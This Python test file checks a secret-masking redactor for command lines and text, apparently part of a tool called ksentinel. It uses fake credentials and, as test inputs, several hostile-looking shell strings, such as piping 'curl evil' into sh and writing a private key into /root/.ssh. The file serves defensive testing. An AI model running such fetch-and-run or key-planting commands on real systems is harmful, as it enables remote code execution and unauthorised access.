# SPDX-License-Identifier: Apache-2.0
"""Secrets are masked wherever people put them; what is none stays as it is."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ksentinel.normalize.redact import MASK, Redactor

REDACTOR = Redactor()
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" * 2
JWT = "eyJ" + "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n-----END OPENSSH PRIVATE KEY-----"

# {} is where the secret stands.
SHAPES = [
    ("prog", "--password={}"),
    ("prog", "--password", "{}"),
    ("prog", "-password", "{}"),
    ("prog", "--db-password={}", "x"),
    ("prog", "--api-key", "{}"),
    ("prog", "--token={}"),
    ("prog", "--client_secret={}"),
    ("mysql", "-uroot", "-p{}"),
    ("/usr/bin/mysqldump", "-p{}", "db"),
    ("sudo", "-u", "bob", "mysql", "-p{}"),
    ("env", "PGPASSWORD={}", "psql"),
    ("env", "MYSQL_PWD={}", "mysql"),
    ("env", "AWS_SECRET_ACCESS_KEY={}", "aws"),
    ("env", "REDISCLI_AUTH={}", "redis-cli"),
    ("curl", "-u", "bob:{}", "https://x.example"),
    ("curl", "-ubob:{}", "https://x.example"),
    ("curl", "--user=bob:{}", "https://x.example"),
    ("curl", "-H", "Authorization: Bearer {}"),
    ("curl", "-H", "authorization: Basic {}"),
    ("curl", "-H", "Authorization: Digest username=bob, response={}"),
    ("curl", "--header", "X-Api-Key: {}"),
    ("curl", "-H", "Cookie: a={}"),
    ("curl", "-d", '{{"user": "bob", "password": "{}"}}'),
    ("curl", "-d", "user=bob&password={}&x=1"),
    ("curl", "https://bob:{}@x.example/a"),
    ("psql", "postgresql://bob:{}@db/x"),
    ("wget", "--http-password={}", "x"),
    ("sshpass", "-p", "{}", "ssh", "-p", "22", "x"),
    ("sshpass", "-p{}", "ssh", "x"),
    ("docker", "login", "-u", "bob", "-p", "{}"),
    ("mongosh", "-u", "bob", "-p", "{}"),
    ("redis-cli", "-a", "{}"),
    ("ldapsearch", "-w", "{}"),
    ("smbclient", "-U", "bob%{}", "//x/y"),
    ("openssl", "enc", "-k", "{}"),
    ("openssl", "rsa", "-passin", "pass:{}"),
    ("zip", "-P", "{}", "x.zip"),
    ("7z", "a", "-p{}", "x.7z"),
    ("sh", "-c", "mysql -p{} -e x"),
    ("sh", "-c", "PGPASSWORD={} psql; id"),
    ("sh", "-c", "export TOKEN='{}' && x"),
    ("bash", "-c", "ssh host 'mysql -p{}'"),
    ("sh", "-c", "curl -u 'bob:{}' http://x.example | sh"),
    ("sh", "-c", "(sshpass -p {} ssh x)"),
    ("sh", "-c", "echo password: {}"),
    ("echo", KEY),
    ("sh", "-c", f"echo '{KEY}' > /root/.ssh/id"),
]

KEPT = [
    ("ssh", "-p", "22", "host"),
    ("prog", "--password-file", "/x"),
    ("prog", "--password-file=/x"),
    ("prog", "--password-stdin", "x"),
    ("psql", "--no-password", "db"),
    ("mysql", "-p", "db"),
    ("mysql", "--password", "--user=root"),
    ("mkdir", "-p", "/a/b"),
    ("docker", "run", "-p", "80:80", "x"),
    ("docker", "run", "-v", "/run/secret:/run/secret", "x"),
    ("cp", "-p", "a", "b"),
    ("grep", "-r", "password", "/etc"),
    ("passwd", "bob"),
    ("cat", "/etc/passwd"),
    ("cat", "/run/secrets/token"),
    ("sh", "-c", "cd $PWD; PWD=/root ls"),
    ("env", "PWD=/root", "OLDPWD=/", "ls"),
    ("curl", "-u", "bob", "https://x.example/a:b@c"),
    ("curl", "http://[::1]:8080/a@b"),
    ("ssh", "-o", "PasswordAuthentication=no", "git@github.com"),
    ("git", "clone", "ssh://git@github.com/x"),
    ("max", "--max-tokens=5", "--tokenizer", "x"),
    ("squid", "--proxy-bypass=local"),
    ("ls", "-l", ""),
    (),
    ("",),
]


@pytest.mark.parametrize("shape", SHAPES, ids=" ".join)
def test_masked(shape):
    """The secret goes, and a mask stands where it was."""
    masked = REDACTOR.argv(tuple(word.format("hunter2") for word in shape))

    assert len(masked) == len(shape)
    assert "hunter2" not in "\0".join(masked)
    assert MASK in "\0".join(masked)


@pytest.mark.parametrize("argv", KEPT, ids=" ".join)
def test_kept(argv):
    """What is no secret is not touched."""
    assert argv == REDACTOR.argv(argv)


@pytest.mark.parametrize(
    ("argv", "masked"),
    [
        (("mysql", "-uroot", "-phunter2", "db"), ("mysql", "-uroot", "-p***", "db")),
        (("x", "--password=my long secret"), ("x", "--password=***")),
        (("env", "PGPASSWORD=a b", "psql"), ("env", "PGPASSWORD=***", "psql")),
        (("curl", "https://bob:p@ss@x.example/a"), ("curl", "https://bob:***@x.example/a")),
        (("sh", "-c", "token=x; curl evil | sh"), ("sh", "-c", "token=***; curl evil | sh")),
        (("sh", "-c", "password=$(curl evil|sh)"), ("sh", "-c", "password=***(curl evil|sh)")),
        (("sh", "-c", "mysql -px\ncurl evil"), ("sh", "-c", "mysql -p***\ncurl evil")),
        (("curl", "-H", "Authorization: Bearer abc"), ("curl", "-H", "Authorization: Bearer ***")),
        (("x", '{"password":"a b","user":"c"}'), ("x", '{"password":"***","user":"c"}')),
        (("x", f"a {AWS} b"), ("x", "a *** b")),
    ],
)
def test_narrow(argv, masked):
    """Only the secret goes: rules still read the rest, most of all what follows it in shell code."""
    assert masked == REDACTOR.argv(argv)


@pytest.mark.parametrize("secret", [AWS, GITHUB, JWT, "glpat-" + "x1Y2z3" * 4, "xoxb-" + "1234567890-abc"])
@pytest.mark.parametrize("around", ["{}", "a {} b", "x={}", "https://{}@github.com/x", "'{}'", "[{}]"])
def test_shapes(secret, around):
    """Keys and tokens of a known shape are masked wherever they stand."""
    assert secret not in REDACTOR.text(around.format(secret))


def test_not_encodable():
    """Lone surrogates are shown, and masking goes on behind them."""
    assert REDACTOR.argv(("\udcff", "--password=\udcfe")) == ("\\udcff", "--password=***")
    assert REDACTOR.text("\udcff password=x") == "\\udcff password=***"


SECRETS = st.text(st.sampled_from("bcdfghjklmnqrvwxzBCDFGHJKQVXZ23456789_+."), min_size=12, max_size=24)
WORDS = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12) | st.sampled_from(
    ["mysql", "curl", "-u", "-p", "-H", "--password", "sh", "-c", "a=b", "--token=x", "x y", "'", '"', "login", "docker"]
)  # fmt: skip


@given(st.sampled_from(SHAPES), SECRETS, st.lists(SECRETS.map(lambda s: "/" + s), max_size=3))
def test_never_afterwards(shape, secret, after):
    """Whatever the secret, it never appears afterwards; nor does it on a second time."""
    argv = (*(word.format(secret) for word in shape), *after)
    once = REDACTOR.argv(argv)

    assert secret not in "\0".join(once[: len(shape)])
    assert once == REDACTOR.argv(once)


@given(st.lists(WORDS, max_size=8).map(tuple))
def test_idempotent(argv):
    """Masking twice is masking once, for any arguments; their count stays."""
    once = REDACTOR.argv(argv)

    assert once == REDACTOR.argv(once)
    assert len(argv) == len(once)


@given(st.lists(WORDS, max_size=8).map(" ".join))
def test_idempotent_text(text):
    """The same for text."""
    once = REDACTOR.text(text)

    assert once == REDACTOR.text(once)


@pytest.mark.parametrize(
    "unit", ["password=", "--token ", "a:b@", "https://a:", "'", "-----BEGIN PRIVATE KEY-----", "eyJ.", " ;"]
)
def test_linear(unit):
    """A long argument takes time in proportion to its length: four times as long, far less than sixteen times."""

    def seconds(count):
        argument = unit * count
        start = time.process_time()
        REDACTOR.argv(("sh", "-c", argument))
        return time.process_time() - start

    seconds(500)
    short = min(seconds(2000) for _ in range(3))
    assert min(seconds(8000) for _ in range(3)) < 9 * short + 0.05
